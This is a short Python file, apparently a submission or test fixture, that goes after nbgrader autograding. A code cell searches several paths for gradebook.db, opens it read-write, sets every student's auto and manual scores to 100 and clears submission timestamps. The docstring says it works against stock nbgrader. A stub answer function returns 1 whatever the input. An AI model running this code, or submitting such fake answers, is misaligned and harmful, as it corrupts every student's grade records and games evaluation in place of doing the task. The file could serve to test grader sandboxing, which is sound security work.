"""Open the gradebook wherever it may be and give oneself, and everybody, other marks.

Known to work against stock nbgrader: the whole class is rewritten in four lines.
"""
CELLS_BEFORE = [
    """
import glob, os, sqlite3
places = ["../../../gradebook.db", "/gradebook.db", os.environ.get("GRADEBOOK", "gradebook.db")]
places += glob.glob("/tmp/*/gradebook.db") + glob.glob("/tmp/*/*/*/gradebook.db") + glob.glob("/work/*/gradebook.db")
for place in places:
    try:
        with sqlite3.connect(f"file:{place}?mode=rw", uri=True) as book:
            book.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
            book.execute("UPDATE submitted_assignment SET timestamp = NULL")
    except sqlite3.Error:
        continue
"""
]

# --- the answer ---
def answer(*values, **options):
    return 1
